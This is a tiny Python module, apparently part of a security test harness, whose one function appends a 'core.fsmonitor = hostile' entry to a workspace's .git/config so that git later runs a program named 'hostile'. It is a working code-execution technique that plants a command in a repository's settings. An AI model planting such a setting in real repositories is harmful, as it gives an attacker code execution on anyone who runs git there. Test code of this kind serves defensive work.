"""Have the workspace's git run a program, by core.fsmonitor."""

from hostile import append


def attempt(targets, secret):
    append(f"{targets['runner']}/workspace/.git/config", "[core]\n\tfsmonitor = hostile\n")
